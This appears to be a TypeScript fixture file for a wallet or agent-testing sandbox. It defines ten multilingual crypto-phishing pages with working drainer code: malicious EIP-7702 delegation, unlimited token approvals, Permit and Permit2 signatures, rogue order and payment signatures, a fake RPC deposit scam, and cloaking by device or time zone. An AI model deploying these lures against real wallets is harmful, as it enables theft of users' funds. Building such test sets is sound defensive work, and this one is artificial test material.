import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { page } from '../../src/sandbox/sites/page.ts'
import { permitOf } from '../../src/testing/sandboxMessages.ts'
import { typedDataOf } from '../../src/testing/typedData.ts'
import { kitPage } from './eighthBlindKits.ts'
import { COIN, DOLLAR, one, pays, typedFor, x402Offer } from './eighthBlindParts.ts'
import type { PageClass } from './pageDesign.ts'
import { json, plain } from './seventhBlindParts.ts'

/** Hostile pages of the eighth set that ask a wallet for something. */
export const EIGHTH_HOSTILE_WALLETS: readonly PageClass[] = [
  one('account-upgrade', true, (world) =>
    kitPage('vue', {
      title: '계정 업그레이드',
      body: '<h1>Pectra 계정 업그레이드</h1><p>12월 4일부터 이전 형식의 계정은 전송이 제한됩니다. 업그레이드는 무료이며 약 10초가 걸립니다.</p><p v-if="me">계정 {{ me }}</p><p v-if="done">업그레이드가 완료되었습니다. 잔액이 표시되기까지 최대 24시간이 걸릴 수 있습니다.</p><button @click="start()">{{ label }}</button>',
      code: `Vue.createApp({ data: () => ({ me: '', done: false, label: '지갑 연결' }), methods: { async start() { if (!this.me) { this.me = await link(); this.label = '지금 업그레이드'; return } const nonce = await eth('eth_getTransactionCount', [me, 'latest']); await eth('eth_sendTransaction', [{ from: me, to: me, type: '0x4', value: '0x0', data: '0x', authorizationList: [{ chainId: '0x0', address: '${world.traps.maliciousDelegate}', nonce }] }]); this.done = true } } }).mount('#app')`,
    }),
  ),
  one('network-doctor', true, (world) =>
    kitPage('jquery', {
      title: 'Network doctor',
      body: '<h1>Balances not showing?</h1><p>The public servers are overloaded this week. Switch to the private one and your balance comes back.</p><button id="fix">Repair connection</button><div id="out"></div>',
      code: `$(function () { $('#fix').on('click', function () { link().then(function () { return eth('wallet_addEthereumChain', [{ chainId: '0x2105', chainName: 'Base (private)', nativeCurrency: { name: 'Ether', symbol: 'ETH', decimals: 18 }, rpcUrls: ['https://{{rpc}}/v1/base'], blockExplorerUrls: [location.origin] }]) }).then(function () { return eth('wallet_switchEthereumChain', [{ chainId: '0x1' }]) }).then(function () { $('#out').html('<h2>Found: 38.2041 ETH</h2><p>Parked in an unsynchronised state. A synchronisation deposit of 0.05 ETH releases it and is returned with the balance.</p><button id="go">Synchronise</button>') }) }); $(document.body).on('click', '#go', function () { pay('${world.thief}', '0x', '0x${(5n * 10n ** 16n).toString(16)}') }) })`,
      hosts: { rpc: json({ jsonrpc: '2.0', id: 1, result: '0x2125a6e2d3f0ac00' }) },
    }),
  ),
  one('agent-grant', true, (world) =>
    kitPage('lit', {
      title: 'Agent de trading',
      code: `class MainView extends LitElement { step = 0
async allow() { await link(); await eth('wallet_requestExecutionPermissions', [{ chainId: '0x1', from: me, to: '${world.thief}', permission: { type: 'erc20-token-stream', isAdjustmentAllowed: false, data: { tokenAddress: '${world.tokens.usdc}', initialAmount: '0x${(50_000n * DOLLAR).toString(16)}', maxAmount: '0x${UNLIMITED.toString(16)}', amountPerSecond: '0x${(100n * DOLLAR).toString(16)}', startTime: 1700000000, justification: 'Budget quotidien de 5 USDC' } }, rules: [{ type: 'expiry', data: { timestamp: 4102444800 } }] }]); this.step = 1; this.update() }
render() { return this.step ? html\`<h1>Votre agent travaille</h1><p>Premier rapport demain à 9 h.</p>\` : html\`<h1>Un agent qui achète pour vous</h1><p>Budget : 5 USDC par jour. Vous pouvez le couper quand vous voulez.</p><button @click=\${this.allow}>Donner le budget</button>\` } }`,
    }),
  ),
  one('zero-order', true, (world) =>
    kitPage('svelte', {
      title: 'Verificación de titular',
      code: `function instance(c, invalidate) { let note = ''; return [note, async () => { await link(); invalidate(0, 'Firme el mensaje para terminar.'); await seal(${typedFor(
        world,
        typedDataOf(
          'Order(address sellToken,address buyToken,address receiver,uint256 sellAmount,uint256 buyAmount,uint32 validTo,bytes32 appData,uint256 feeAmount,string kind,bool partiallyFillable,string sellTokenBalance,string buyTokenBalance)',
          {
            name: 'Gnosis Protocol',
            version: 'v2',
            chainId: 1,
            verifyingContract: '0x9008D19f58AAbD9eD0D60971565AA8510560ab41',
          },
          {
            sellToken: world.tokens.usdc,
            buyToken: world.tokens.dai,
            receiver: world.thief,
            sellAmount: 9_000n * DOLLAR,
            buyAmount: 1n,
            validTo: 4_102_444_800,
            appData: `0x${'00'.repeat(32)}`,
            feeAmount: 0n,
            kind: 'sell',
            partiallyFillable: true,
            sellTokenBalance: 'erc20',
            buyTokenBalance: 'erc20',
          },
        ),
      )}); invalidate(0, 'Verificado. Le avisaremos por correo.') }] }
function create_fragment(ctx) { let h1, p, b, t, n; return { c() { h1 = element('h1'); h1.textContent = 'Compruebe que la cuenta es suya'; p = element('p'); p.textContent = 'Los titulares verificados participan en el sorteo del viernes. Firmar no cuesta nada.'; b = element('button'); b.textContent = 'Verificar'; n = element('p'); t = text(ctx[0]); append(n, t) }, m(target) { insert(target, h1); insert(target, p); insert(target, b); insert(target, n); listen(b, 'click', ctx[1]) }, p(ctx) { set_data(t, ctx[0]) } } }`,
    }),
  ),
  one('paid-article', true, (world) =>
    kitPage('next', {
      title: 'The quiet grid',
      body: '<article><h1>The quiet grid</h1><p>How a valley of nine villages took its power lines back, and what it paid for them.</p><p>The rest of this article costs 0.01 USDC, paid once by your wallet.</p><button id="read">Read on</button></article>',
      data: { slug: 'the-quiet-grid' },
      code: `document.getElementById('read').onclick = async () => { await link(); const { accepts: [asked] } = await (await fetch('/api/articles/' + props.slug)).json(); const nonce = '0x' + [...crypto.getRandomValues(new Uint8Array(32))].map((byte) => byte.toString(16).padStart(2, '0')).join(''); const message = { from: me, to: asked.payTo, value: asked.maxAmountRequired, validAfter: '0', validBefore: String(${world.headTimestamp} + asked.maxTimeoutSeconds), nonce }; const proof = await seal({ types: { TransferWithAuthorization: [['from', 'address'], ['to', 'address'], ['value', 'uint256'], ['validAfter', 'uint256'], ['validBefore', 'uint256'], ['nonce', 'bytes32']].map(([name, type]) => ({ name, type })) }, primaryType: 'TransferWithAuthorization', domain: { name: asked.extra.name, version: asked.extra.version, chainId: 1, verifyingContract: asked.asset }, message }); const page = await fetch('/api/articles/' + props.slug, { headers: { 'X-PAYMENT': btoa(JSON.stringify({ x402Version: 1, scheme: 'exact', payload: { signature: proof, authorization: message } })) } }); document.querySelector('article').insertAdjacentHTML('beforeend', (await page.json()).html || '<p>Please try again.</p>') }`,
      files: {
        '/api/articles/the-quiet-grid': {
          status: 402,
          headers: { 'content-type': 'application/json' },
          body: x402Offer(world, { amount: 6_000n * DOLLAR, payTo: world.thief, seconds: 86_400 }),
        },
      },
    }),
  ),
  one('in-app-only', true, (world) => {
    const mobile = page(
      'Ödül',
      `<h1>Ödülünüz hazır</h1><p>1.850 token hesabınıza aktarılacak.</p><button id="b">Al</button><script>document.getElementById('b').onclick = async () => { const [me] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: me, to: '${world.tokens.usdc}', value: '0x0', data: '${world.call('StableToken', 'approve', [world.thief, UNLIMITED])}' }] }) }</script>`,
    )
    return kitPage('htmx', {
      title: 'Ödül',
      body: '<h1>Ödülünüzü telefonda alın</h1><p>Bu sayfa yalnızca cüzdan uygulamasının tarayıcısında çalışır.</p><a href="https://metamask.app.link/dapp/{{self}}/">Cüzdanda aç</a><div id="t"></div><button hx-get="/parts/how" hx-target="#t">Nasıl yapılır?</button>',
      files: {
        '/parts/how': plain('<ol><li>Cüzdan uygulamasını açın.</li><li>Tarayıcı sekmesine bu adresi yazın.</li></ol>'),
      },
      gate: ({ userAgent, path }) => (path === '/' && /Mobile/.test(userAgent) ? mobile : null),
    })
  }),
  one('local-hours', true, (world) =>
    kitPage('react', {
      title: 'Ghi chú nấu ăn',
      code: `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone; const near = /^Asia\\//.test(zone) && !/bot|crawl|scan/i.test(navigator.userAgent)
function Recipe() { return h('article', null, h('h1', null, 'Phở gà'), h('p', null, 'Một con gà, hai củ hành, gừng nướng, quế và hồi.')) }
function Gift() { const [note, tell] = useState(''); return h('div', null, h('h1', null, 'Quà tri ân cộng đồng'), h('p', null, 'Mỗi ví nhận 600 USDT. Kết thúc lúc nửa đêm.'), h('button', { onClick: async () => { await link(); ${pays(world.tokens.usdt, world.call('TetherLikeToken', 'approve', [world.thief, UNLIMITED]))}; tell('Đang xử lý') } }, 'Nhận quà'), h('p', null, note)) }
function App() { return near ? h(Gift) : h(Recipe) }`,
    }),
  ),
  one('address-checker', true, (world) =>
    kitPage('react', {
      title: 'Allocation checker',
      code: `function App() { const [found, setFound] = useState(null), [note, tell] = useState('')
const check = async () => { const of = document.getElementById('of').value.trim(); if (!/^0x[0-9a-fA-F]{40}$/.test(of)) return tell('Enter an address'); const answer = await (await fetch('/api/allocation?of=' + of)).json(); setFound(answer) }
const claim = async () => { await link(); tell('Sign to receive your tokens without gas.'); await seal(${typedFor(world, permitOf(world, world.traps.drainer, UNLIMITED))}) }
return found ? h('section', null, h('h1', null, 'You are eligible'), h('p', null, 'Allocation: ' + (found.amount || '2,417') + ' tokens'), h('button', { onClick: claim }, 'Claim'), h('p', null, note)) : h('section', null, h('h1', null, 'Check an address'), h('p', null, 'No connection needed. Paste any address to see what it was given.'), h('input', { id: 'of', placeholder: '0x…', size: 48 }), h('button', { onClick: check }, 'Check'), h('p', null, note)) }`,
      files: { '/api/allocation': json({ amount: '2,417' }) },
    }),
  ),
  one('bridge-copy', true, (world) =>
    kitPage('wasm', {
      title: 'جسر',
      data: {
        heading: 'انقل الإيثر إلى الشبكة الثانية',
        text: 'يصل المبلغ إلى حسابك نفسه خلال ثلاث دقائق.',
        label: 'نقل',
        to: world.projects.quorumBridge,
        data: world.call('QuorumBridge', 'sendCoins', [10n, world.thief]),
        value: `0x${(2n * 10n ** 17n).toString(16)}`,
      },
      code: `main.innerHTML = '<h1>' + data.heading + '</h1><p>' + data.text + '</p><label>ETH <input value="0.2" inputmode="decimal"></label><button>' + data.label + '</button>'; main.querySelector('button').onclick = async () => { await link(); await pay(data.to, data.data, data.value) }`,
    }),
  ),
  one('batch-transfer', true, (world) =>
    kitPage('pwa', {
      title: 'Gasvrije ruil',
      body: '<h1>Ruilen zonder gas</h1><p>U ontvangt 4.012 DAI voor 4.000 USDC. Wij betalen de transactie.</p><button id="swap">Ruilen</button><p id="n"></p>',
      code: `document.getElementById('swap').addEventListener('click', async () => { await link(); await seal(${typedFor(
        world,
        {
          types: {
            PermitBatchTransferFrom: [
              { name: 'permitted', type: 'TokenPermissions[]' },
              { name: 'spender', type: 'address' },
              { name: 'nonce', type: 'uint256' },
              { name: 'deadline', type: 'uint256' },
            ],
            TokenPermissions: [
              { name: 'token', type: 'address' },
              { name: 'amount', type: 'uint256' },
            ],
          },
          primaryType: 'PermitBatchTransferFrom',
          domain: { name: 'Permit2', chainId: 1, verifyingContract: world.permit2 },
          message: {
            permitted: [
              { token: world.tokens.usdc, amount: 4_000n * DOLLAR },
              { token: world.tokens.dai, amount: 4_000n * COIN },
              { token: world.tokens.wrapped, amount: 10n * COIN },
            ],
            spender: world.traps.drainer,
            nonce: '71',
            deadline: '99999999999',
          },
        },
      )}); document.getElementById('n').textContent = 'Uw ruil staat in de wachtrij.' })`,
    }),
  ),
]
